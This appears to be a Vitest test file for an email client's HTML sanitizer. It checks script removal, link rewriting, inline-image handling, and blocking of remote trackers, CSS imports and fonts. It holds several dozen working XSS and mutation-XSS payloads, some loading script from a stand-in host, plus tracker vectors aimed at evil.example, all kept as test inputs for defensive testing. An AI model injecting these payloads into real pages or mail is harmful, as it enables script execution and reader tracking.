import { describe, expect, it } from "vitest";
import { sanitizeMailHtml, type SanitizedMailHtml } from "./sanitize-html";
import { textToHtml } from "./text-to-html";

const PART_URL = "/api/messages/7/parts/2?folder=INBOX&uidValidity=1";
const cidUrl = (cid: string) => (cid === "logo@x" || cid === "a b@x" ? PART_URL : null);
const PART_URL_IN_HTML = PART_URL.replace("&", "&amp;");

const blocked = (html: string): SanitizedMailHtml => sanitizeMailHtml(html, { allowRemote: false, cidUrl });
const remote = (html: string): SanitizedMailHtml => sanitizeMailHtml(html, { allowRemote: true, cidUrl });
const clean = (html: string): string => blocked(html).html;

// Script vectors from the OWASP XSS filter evasion cheat sheet and the HTML5 security cheat sheet.
const XSS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<IMG SRC="javascript:alert(1);">',
  "<IMG SRC=JaVaScRiPt:alert(1)>",
  "<IMG SRC=`javascript:alert(1)`>",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<BODY ONLOAD=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="image" src="javascript:alert(1)">',
  '<details open ontoggle="alert(1)">',
  '<div style="width: expression(alert(1))">',
  '<div style="behavior: url(xss.htc)">',
  '<div style="-moz-binding: url(http://xss.example/x.xml#xss)">',
  "<style>body{-moz-binding:url(http://xss.example/x.xml#xss)}</style>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<!--<script>alert(1)</script>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  '<p title="</p><script>alert(1)</script>">x</p>',
  "<style></style><script>alert(1)</script>",
  "<style>a{}</style x><img src=x onerror=alert(1)></style>",
  '<style>.a{content:"</style><script>alert(1)</script>"}</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="http://ok.example" onclick="alert(1)" onmouseover="alert(1)">x</a>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<SCRIPT>alert(1);//<</SCRIPT>",
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  // Issue 13's review: SVG animation (the Roundcube CVE-2025-68461 class), namespace confusion and
  // DOMPurify's mutation-XSS vectors, xml:base and xlink, entity-obfuscated schemes.
  '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">x</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<animate attributeName="href" to="javascript:alert(1)"><a href="#">x</a>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PGltYWdlIGhyZWY9MSBvbmVycm9yPWFsZXJ0KDEpIC8+PC9zdmc+#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<a xml:base="javascript:alert(1)//" href="x">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<isindex type="image" src="1" onerror="alert(1)" formaction="javascript:alert(1)">',
];

const FORBIDDEN_TAGS = new Set([
  "script",
  "iframe",
  "frame",
  "object",
  "embed",
  "applet",
  "svg",
  "math",
  "form",
  "input",
  "button",
  "textarea",
  "select",
  "base",
  "meta",
  "link",
  "noscript",
  "template",
]);
const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "srcset",
  "background",
  "action",
  "formaction",
  "data",
  "poster",
]);

function decodeEntities(value: string): string {
  return value
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/**
 * What in sanitized output could run script. sanitize-html escapes "<" in text and quotes every
 * attribute value, so every "<" left is markup and every value sits between double quotes.
 */
function scriptable(html: string): string[] {
  const problems: string[] = [];
  const styleless = html.replace(/<style>([^<]*)<\/style>/g, (_, css: string) => {
    if (/expression\s*\(|behavior|binding|javascript:/i.test(css)) problems.push(`style element: ${css}`);
    return "";
  });
  for (const tag of styleless.match(/<[^>]*>/g) ?? []) {
    const name = /^<\/?([a-z0-9:-]+)/i.exec(tag)?.[1]?.toLowerCase() ?? "";
    if (FORBIDDEN_TAGS.has(name)) problems.push(`tag: ${tag}`);
    if (/\son[a-z]+/i.test(tag.replace(/="[^"]*"/g, ""))) problems.push(`handler: ${tag}`);
    for (const [, attribute = "", raw = ""] of tag.matchAll(/\s([a-z-]+)="([^"]*)"/gi)) {
      const value = decodeEntities(raw).replace(/[\u0000-\u0020]/g, "");
      if (URL_ATTRIBUTES.has(attribute) && /^(?:javascript|vbscript|livescript|data:text)/i.test(value))
        problems.push(`url: ${tag}`);
      if (attribute === "style" && /expression\(|behavior|binding|javascript:/i.test(value))
        problems.push(`style: ${tag}`);
    }
  }
  return problems;
}

describe("sanitizeMailHtml: script", () => {
  it("uses a checker that does notice script", () => {
    expect(scriptable('<img src="x" onerror="alert(1)" />')).toHaveLength(1);
    expect(scriptable('<a href="  javascript:alert(1)">x</a>')).toHaveLength(1);
    expect(scriptable("<svg></svg>")).toHaveLength(2);
    expect(scriptable('<div style="width:expression(alert(1))"></div>')).toHaveLength(1);
    expect(scriptable("<style>a{-moz-binding:url(x)}</style>")).toHaveLength(1);
    expect(scriptable('<p title="&lt;img src=x onerror=alert(1)&gt;">x</p>')).toEqual([]);
  });

  for (const vector of XSS) {
    it(`neutralizes ${vector}`, () => {
      expect(scriptable(blocked(vector).html)).toEqual([]);
      expect(scriptable(remote(vector).html)).toEqual([]);
    });
  }

  it("drops the handler but keeps the image", () => {
    expect(clean("<img src=x onerror=alert(1)>")).toBe("<img />");
  });

  it("drops javascript: links in any spelling but keeps their text", () => {
    expect(
      clean(
        '<a href="jAvAsCrIpT:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href="java\tscript:x">c</a>',
      ),
    ).toBe("<a>a</a><a>b</a><a>c</a>");
  });

  it("drops svg with its content and keeps what follows", () => {
    expect(clean("<svg onload=alert(1)><text>drawn</text></svg>after")).toBe("after");
  });

  it("removes title, base, meta and link", () => {
    expect(
      clean(
        '<html><head><title>t</title><base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example"><link rel=stylesheet href="http://evil.example/a.css"></head><body><p>x</p></body></html>',
      ),
    ).toBe("<div><p>x</p></div>");
  });

  it("drops comments, including ones that look like they hide script", () => {
    expect(clean("a<!--<script>alert(1)</script>-->b")).toBe("ab");
  });

  it("closes unclosed tags", () => {
    expect(clean("<p>unclosed <b>bold <i>it")).toBe("<p>unclosed <b>bold <i>it</i></b></p>");
  });

  it("keeps the text of unknown tags", () => {
    expect(clean("<o:p>Office</o:p><marquee>moving</marquee><blink>b</blink>")).toBe("Officemovingb");
  });

  it("never throws on junk", () => {
    for (const junk of [
      "",
      "<",
      "<<<>>>",
      "</",
      "<a",
      "<!--",
      "<![CDATA[",
      "\u0000\u0001<p\u0000>",
      "<style>",
      "<style>/*",
      "&#xFFFFFFFF;",
      "<".repeat(10_000),
    ]) {
      expect(() => blocked(junk)).not.toThrow();
    }
    expect(blocked(undefined as unknown as string).html).toBe("");
  });
});

describe("sanitizeMailHtml: links", () => {
  it("opens web, mail and phone links outside without referrer", () => {
    expect(clean('<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">x</a>')).toBe(
      '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(clean('<a href="mailto:bob@example.com">m</a><a href="tel:+1555">t</a>')).toBe(
      '<a href="mailto:bob@example.com" target="_blank" rel="noopener noreferrer">m</a><a href="tel:+1555" target="_blank" rel="noopener noreferrer">t</a>',
    );
  });

  it("keeps in-message anchors and drops relative links to the app's origin", () => {
    expect(clean('<a href="#top">t</a><a href="/api/messages/1/source">r</a><a name="top">n</a>')).toBe(
      '<a href="#top">t</a><a>r</a><a name="top">n</a>',
    );
  });

  it("drops ping, so a click does not report to a tracker", () => {
    expect(clean('<a href="https://x.example" ping="https://evil.example/ping">x</a>')).not.toContain("ping");
  });
});

describe("sanitizeMailHtml: inline images", () => {
  it("rewrites cid: images and records them", () => {
    const result = blocked('<img src="cid:logo@x" alt="Logo">');
    expect(result.html).toBe(`<img alt="Logo" src="${PART_URL_IN_HTML}" />`);
    expect([...result.usedCids]).toEqual(["logo@x"]);
    expect(result.remoteContentBlocked).toBe(false);
  });

  it("accepts angle brackets and %-encoding in cid: URLs (RFC 2392)", () => {
    expect([...blocked('<img src="cid:%3Clogo@x%3E"><img src="cid:a%20b@x">').usedCids]).toEqual([
      "logo@x",
      "a b@x",
    ]);
  });

  it("drops the src of an unknown cid and records nothing", () => {
    const result = blocked('<img src="cid:missing@x" alt="gone">');
    expect(result.html).toBe('<img alt="gone" />');
    expect(result.usedCids.size).toBe(0);
  });

  it("rewrites cid: in backgrounds and CSS", () => {
    const result = blocked(
      '<td background="cid:logo@x"><div style="background:url(cid:logo@x)">x</div></td>',
    );
    expect(result.html).toBe(
      `<td background="${PART_URL_IN_HTML}"><div style="background:url(${PART_URL_IN_HTML})">x</div></td>`,
    );
    expect([...result.usedCids]).toEqual(["logo@x"]);
  });

  it("does not count a cid used only by a dropped element", () => {
    expect(
      blocked('<video poster="cid:logo@x"></video><svg><image href="cid:logo@x"/></svg>').usedCids.size,
    ).toBe(0);
  });

  it("keeps data: images and drops other data: types", () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:text/html,<b>x</b>">')).toBe(
      '<img src="data:image/png;base64,iVBORw0KGgo=" /><img />',
    );
  });

  it("drops relative image URLs, which would hit the app's own origin", () => {
    expect(clean('<img src="/api/messages/1/parts/2?folder=INBOX">')).toBe("<img />");
  });
});

describe("sanitizeMailHtml: remote content", () => {
  it("blocks a remote image, keeping alt and size, and marks it", () => {
    const result = blocked('<img src="http://t.example/p.gif" alt="pixel" width="1" height="1">');
    expect(result.html).toBe('<img alt="pixel" width="1" height="1" data-letterbox-blocked="1" />');
    expect(result.remoteContentBlocked).toBe(true);
  });

  it("shows the remote image when allowed", () => {
    const result = remote('<img src="http://t.example/p.gif" alt="pixel">');
    expect(result.html).toBe('<img alt="pixel" src="http://t.example/p.gif" />');
    expect(result.remoteContentBlocked).toBe(false);
  });

  it("filters srcset candidate by candidate", () => {
    expect(clean('<img srcset="http://a.example/1.png 1x, cid:logo@x 2x">')).toBe(
      `<img srcset="${PART_URL_IN_HTML} 2x" />`,
    );
    expect(remote('<img srcset="http://a.example/1.png 1x, https://a.example/2.png 2x">').html).toBe(
      '<img srcset="http://a.example/1.png 1x, https://a.example/2.png 2x" />',
    );
    expect(blocked('<img srcset="http://a.example/1.png 1x">')).toEqual({
      html: '<img data-letterbox-blocked="1" />',
      remoteContentBlocked: true,
      usedCids: new Set(),
    });
  });

  it("blocks table and body backgrounds", () => {
    expect(clean('<table background="http://t.example/bg.gif"><tr><td>x</td></tr></table>')).toBe(
      "<table><tr><td>x</td></tr></table>",
    );
    expect(
      clean('<body bgcolor="#eeeeee" background="http://t.example/b.gif" text="red"><p>b</p></body>'),
    ).toBe('<div style="background-color:#eeeeee;color:red;background-image:none"><p>b</p></div>');
    expect(remote('<table background="http://t.example/bg.gif"></table>').html).toBe(
      '<table background="http://t.example/bg.gif"></table>',
    );
  });

  it("blocks CSS backgrounds in style attributes but keeps the rest of the style", () => {
    const result = blocked(
      '<div style="background:url(http://t.example/p.gif) no-repeat #fff; color: red">d</div>',
    );
    expect(result.html).toBe('<div style="background:none no-repeat #fff; color: red">d</div>');
    expect(result.remoteContentBlocked).toBe(true);
    expect(remote('<div style="background:url(http://t.example/p.gif)">d</div>').html).toBe(
      '<div style="background:url(http://t.example/p.gif)">d</div>',
    );
  });

  it("filters style blocks: @import always, remote url() unless allowed", () => {
    const css =
      "<style>@import url(http://x.example/a.css); @import 'http://x.example/b.css'; p{color:red;background:url(http://t.example/p.gif)}</style><p>t</p>";
    expect(blocked(css)).toEqual({
      html: "<style>p{color:red;background:none}</style><p>t</p>",
      remoteContentBlocked: true,
      usedCids: new Set(),
    });
    expect(remote(css).html).toBe(
      "<style>p{color:red;background:url(http://t.example/p.gif)}</style><p>t</p>",
    );
  });

  it("keeps style blocks' media attribute as a media query", () => {
    expect(clean('<style media="screen and (max-width:600px)">.a{width:100%}</style>')).toBe(
      "<style>@media screen and (max-width:600px){.a{width:100%}}</style>",
    );
  });

  it("does not report blocked content for a message without any", () => {
    expect(
      blocked('<p style="color:red">hi <a href="https://example.com">link</a></p>').remoteContentBlocked,
    ).toBe(false);
  });

  it("treats protocol-relative and backslash URLs as remote", () => {
    expect(blocked('<img src="//t.example/p.gif">')).toMatchObject({
      html: '<img data-letterbox-blocked="1" />',
      remoteContentBlocked: true,
    });
    expect(remote('<img src="\\\\t.example\\p.gif">').html).toBe('<img src="https://t.example/p.gif" />');
  });

  // Every way a document can make the browser fetch something by itself. With remote content
  // blocked, none of these hosts may appear in the output outside a link's href.
  // [vector, whether allowRemote would bring something back and so the reader is told]
  const TRACKERS: [string, boolean][] = [
    ['<img src="http://evil.example/1.gif">', true],
    ['<img src=" HTTPS://evil.example/2.gif ">', true],
    ['<img src="&#104;ttp://evil.example/3.gif">', true],
    ['<img srcset="http://evil.example/4.gif 1x, http://evil.example/5.gif 2x">', true],
    [
      '<img src="x" lowsrc="http://evil.example/6.gif" dynsrc="http://evil.example/7.avi" longdesc="http://evil.example/8">',
      false,
    ],
    ['<picture><source srcset="http://evil.example/9.webp"><img src="cid:logo@x"></picture>', false],
    [
      '<video poster="http://evil.example/10.jpg" src="http://evil.example/11.mp4"><source src="http://evil.example/12.mp4"><track src="http://evil.example/13.vtt"></video>',
      false,
    ],
    ['<audio src="http://evil.example/14.mp3"></audio>', false],
    ['<input type="image" src="http://evil.example/15.gif">', false],
    ['<object data="http://evil.example/16.swf" codebase="http://evil.example/"></object>', false],
    ['<embed src="http://evil.example/17.swf">', false],
    [
      '<iframe src="http://evil.example/18.html"></iframe><frameset><frame src="http://evil.example/19"></frameset>',
      false,
    ],
    [
      '<svg><image href="http://evil.example/20.png"/><image xlink:href="http://evil.example/21.png"/><use href="http://evil.example/22.svg#a"/><feImage href="http://evil.example/23"/></svg>',
      false,
    ],
    ['<image src="http://evil.example/24.png">', false],
    [
      '<table background="http://evil.example/25.gif"><tr background="http://evil.example/26.gif"><td background="http://evil.example/27.gif"><th background="//evil.example/28.gif">',
      true,
    ],
    ['<body background="http://evil.example/29.gif">', true],
    ['<div style="background:url(http://evil.example/30.gif)">', true],
    ["<div style=\"background-image:url('http://evil.example/31.gif')\">", true],
    ['<div style="background-image:u\\72l(http://evil.example/32.gif)">', true],
    ['<div style="background-image:\\75 rl(http://evil.example/33.gif)">', true],
    [
      '<div style="list-style-image:url(http://evil.example/34.gif);cursor:url(http://evil.example/35.cur),auto;border-image:url(http://evil.example/36.png) 30">',
      true,
    ],
    [
      "<div style=\"background-image:image-set('http://evil.example/37.png' 1x, url(http://evil.example/38.png) 2x)\">",
      true,
    ],
    ["<div style=\"background-image:-webkit-image-set('http://evil.example/39.png' 1x)\">", true],
    [
      '<div style="mask:url(http://evil.example/40.svg);filter:url(http://evil.example/41.svg#f);content:url(http://evil.example/42.gif)">',
      true,
    ],
    ['<div style="background:url(http://evil.example/43.gif">', true],
    ['<div style="background:/**/url(/**/http://evil.example/44.gif)">', false],
    ["<style>@import url(http://evil.example/45.css);</style>", false],
    ["<style>@import 'http://evil.example/46.css';</style>", false],
    ['<style>@\\69mport "http://evil.example/47.css";</style>', false],
    // A remote font is never loaded, consent or not: nothing to ask for.
    ["<style>@font-face{font-family:x;src:url(http://evil.example/48.woff)}</style>", false],
    ["<style>body{background:url(http://evil.example/49.gif)}</style>", true],
    ["<style>@media screen{.a{background:url(http://evil.example/50.gif)}}</style>", true],
    ["<style>.a{background:url(&quot;http://evil.example/51.gif&quot;)}</style>", false],
    [
      '<link rel="stylesheet" href="http://evil.example/52.css"><link rel="prefetch" href="http://evil.example/53"><link rel="dns-prefetch" href="//evil.example"><link rel="icon" href="http://evil.example/54.ico">',
      false,
    ],
    ['<meta http-equiv="refresh" content="0;url=http://evil.example/55">', false],
    ['<base href="http://evil.example/56/"><img src="relative.gif">', false],
    ['<script src="http://evil.example/57.js"></script>', false],
    [
      '<bgsound src="http://evil.example/58.wav"><layer src="http://evil.example/59"></layer><xml src="http://evil.example/60.xml"></xml>',
      false,
    ],
    ['<html manifest="http://evil.example/61.appcache">', false],
    [
      '<form action="http://evil.example/62"><button formaction="http://evil.example/63">x</button></form>',
      false,
    ],
    ['<math href="http://evil.example/64">x</math>', false],
    ['<div style="behavior:url(http://evil.example/65.htc)">', false],
    ['<portal src="http://evil.example/66"></portal>', false],
    ['<img src="http:\\\\evil.example/67.gif">', true],
  ];

  it("does not let a custom property's string become an image URL through image-set(var())", () => {
    const html = blocked('<div style="--a:\'http://evil.example/69.png\';background:image-set(var(--a) 1x)">x</div>').html;
    expect(html).not.toMatch(/var\(/);
  });

  for (const [vector, flagged] of TRACKERS) {
    it(`fetches nothing remote for ${vector}`, () => {
      const result = blocked(vector);
      const withoutLinks = result.html.replace(/(<a\b[^>]*?) href="[^"]*"/g, "$1");
      expect(withoutLinks).not.toMatch(/evil\.example/);
      expect(result.remoteContentBlocked).toBe(flagged);
    });
  }
});

describe("sanitizeMailHtml: styles", () => {
  it("keeps newsletter inline styles", () => {
    expect(
      clean(
        '<td style="padding: 0 10px; font-family: Arial, sans-serif; color: #333333; mso-line-height-rule: exactly">x</td>',
      ),
    ).toBe(
      '<td style="padding: 0 10px; font-family: Arial, sans-serif; color: #333333; mso-line-height-rule: exactly">x</td>',
    );
  });

  it("removes expression(), behavior and -moz-binding and keeps the other declarations", () => {
    expect(
      clean(
        '<div style="width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#y); color: blue">e</div>',
      ),
    ).toBe('<div style="width: ;   color: blue">e</div>');
  });

  it("cannot be broken out of: no '<' ever reaches a style element", () => {
    const { html } = remote(
      '<style>.a{font-family:"</sty" "le>"; content:"\\3c/style\\3e<script>alert(1)</script>"}</style>',
    );
    const css = /<style>([\s\S]*)<\/style>/.exec(html)?.[1] ?? "";
    expect(css).not.toContain("<");
    expect(html.match(/<style>/g)?.length).toBe(1);
  });

  it("keeps formatting tags of mail", () => {
    const html =
      '<center><table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" align="center"><tr><td valign="top" colspan="2"><font face="Arial" color="#333333" size="2"><h1>T</h1><ul><li>a</li></ol><blockquote type="cite">q</blockquote><pre>p</pre><hr></font></td></tr></table></center>';
    expect(clean(html)).toBe(
      '<center><table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" align="center"><tr><td valign="top" colspan="2"><font face="Arial" color="#333333" size="2"><h1>T</h1><ul><li>a</li><blockquote type="cite">q</blockquote><pre>p</pre><hr /></ul></font></td></tr></table></center>',
    );
  });
});

describe("sanitizeMailHtml with textToHtml", () => {
  it("keeps the plain-text rendering intact", () => {
    const html = textToHtml("Hello https://example.com/a?b=1&c=2\n> quoted bob@example.com\nbye");
    expect(clean(html)).toBe(
      '<div class="lb-plain" style="white-space:pre-wrap">Hello <a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">https://example.com/a?b=1&amp;c=2</a><blockquote type="cite">quoted <a href="mailto:bob@example.com" target="_blank" rel="noopener noreferrer">bob@example.com</a></blockquote>bye</div>',
    );
  });
});

describe("sanitizeMailHtml: remote content through the image proxy", () => {
  const proxied: string[] = [];
  const remoteUrl = (href: string) => {
    proxied.push(href);
    return `/api/proxy?${new URLSearchParams({ url: href, sig: "s" })}`;
  };
  const viaProxy = (html: string) => sanitizeMailHtml(html, { allowRemote: true, cidUrl, remoteUrl });
  const proxyUrl = (href: string) => `/api/proxy?${new URLSearchParams({ url: href, sig: "s" })}`.replace(/&/g, "&amp;");

  it("rewrites every remote image, srcset candidate, background and CSS url() to the proxy", () => {
    const html = [
      '<img src="http://img.example/a.png" alt="a">',
      '<img srcset="https://img.example/1.png 1x, https://img.example/2.png 2x">',
      '<table background="http://img.example/bg.gif"><tr><td>x</td></tr></table>',
      '<div style="background:url(http://img.example/d.png)">d</div>',
      "<style>p{background-image:url('https://img.example/s.png')}</style>",
    ].join("");
    const out = viaProxy(html).html;
    expect(out).toContain(`src="${proxyUrl("http://img.example/a.png")}"`);
    expect(out).toContain(`srcset="${proxyUrl("https://img.example/1.png")} 1x, ${proxyUrl("https://img.example/2.png")} 2x"`);
    expect(out).toContain(`background="${proxyUrl("http://img.example/bg.gif")}"`);
    expect(out).toContain("/api/proxy?url=http%3A%2F%2Fimg.example%2Fd.png");
    expect(out).toContain("/api/proxy?url=https%3A%2F%2Fimg.example%2Fs.png");
    // No remote address is left where the browser would fetch it: only inside the proxy's query.
    expect(out.replace(/\/api\/proxy\?[^"')\s]+/g, "")).not.toMatch(/img\.example/);
  });

  it("strips tracking parameters from images and links", () => {
    proxied.length = 0;
    const out = viaProxy(
      '<img src="https://img.example/h.png?w=600&utm_source=news&utm_campaign=dec"><a href="https://shop.example/?id=3&utm_medium=email&fbclid=x">shop</a>',
    ).html;
    expect(proxied).toEqual(["https://img.example/h.png?w=600"]);
    expect(out).toContain('href="https://shop.example/?id=3"');
    expect(clean('<a href="https://shop.example/p?utm_source=a">p</a>')).toContain('href="https://shop.example/p"');
  });

  it("drops 1×1 tracking pixels and known open-tracking endpoints instead of fetching them", () => {
    proxied.length = 0;
    const out = viaProxy(
      [
        '<img src="https://t.example/o/123.gif" width="1" height="1" alt="">',
        '<img src="https://t.example/o/456.gif" style="width:1px;height:1px">',
        '<img src="https://acme.us1.list-manage.com/track/open.php?u=1&id=2">',
        '<img src="https://img.example/logo.png" width="120" height="1">',
      ].join(""),
    ).html;
    expect(proxied).toEqual(["https://img.example/logo.png"]);
    expect(out).not.toMatch(/t\.example|list-manage/);
  });

  it("loads no remote font, even with remote content allowed: the proxy serves images only", () => {
    proxied.length = 0;
    const result = viaProxy(
      "<style>@font-face{font-family:Brand;src:url(https://fonts.example/b.woff2) format('woff2'),url(data:font/woff2;base64,AAAA)}" +
        "p{font-family:Brand;background:url(https://img.example/p.png)}</style><p>x</p>",
    );
    expect(proxied).toEqual(["https://img.example/p.png"]);
    expect(result.html).not.toMatch(/fonts\.example/);
    // A font inside the message itself is no request: it stays.
    expect(result.html).toContain("url(data:font/woff2;base64,AAAA)");
    // A message whose only remote content is a font asks for no consent it could not use.
    expect(blocked("<style>@font-face{font-family:B;src:url(https://fonts.example/b.woff2)}</style><p>x</p>").remoteContentBlocked).toBe(false);
  });

  it("a proxy that refuses a URL drops it", () => {
    const out = sanitizeMailHtml('<img src="http://img.example/a.png" alt="a">', { allowRemote: true, cidUrl, remoteUrl: () => null }).html;
    expect(out).toBe('<img alt="a" />');
  });

  it("still holds everything back, proxy or not, until remote content is allowed", () => {
    proxied.length = 0;
    const result = sanitizeMailHtml('<img src="http://img.example/a.png"><p style="background:url(http://img.example/b.png)">x</p>', {
      allowRemote: false,
      cidUrl,
      remoteUrl,
    });
    expect(proxied).toEqual([]);
    expect(result.remoteContentBlocked).toBe(true);
    expect(result.html).not.toMatch(/img\.example|api\/proxy/);
  });
});
